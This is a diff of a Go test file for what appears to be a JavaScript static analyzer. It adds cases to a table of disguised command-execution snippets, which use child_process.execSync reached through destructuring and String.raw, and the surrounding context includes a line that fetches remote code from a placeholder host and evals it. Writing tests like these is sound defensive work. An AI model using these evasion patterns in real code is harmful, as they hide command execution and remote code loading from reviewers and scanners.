@@ -242,6 +242,8 @@ func TestCallsInDisguise(t *testing.T) {
 		"call.call":         {`Function.prototype.call.call(require("child_process").execSync, null, "id")`, "child_process.execSync", "id"},
 		"forEach reference": {`const cp = require("child_process"); ["id"].forEach(cp.execSync)`, "child_process.execSync", "id"},
 		"then(eval)":        {`fetch("https://h.invalid/p.js").then(r => r.text()).then(eval)`, "eval", ""},
+		"rest of a module":  {`const { ...cp } = require("child_process"); cp.execSync("id")`, "child_process.execSync", "id"},
+		"String.raw":        {"const c = String.raw`id`; require('child_process').execSync(c)", "child_process.execSync", "id"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			f := Analyze("a.js", []byte(tc.src), DefaultLimits())
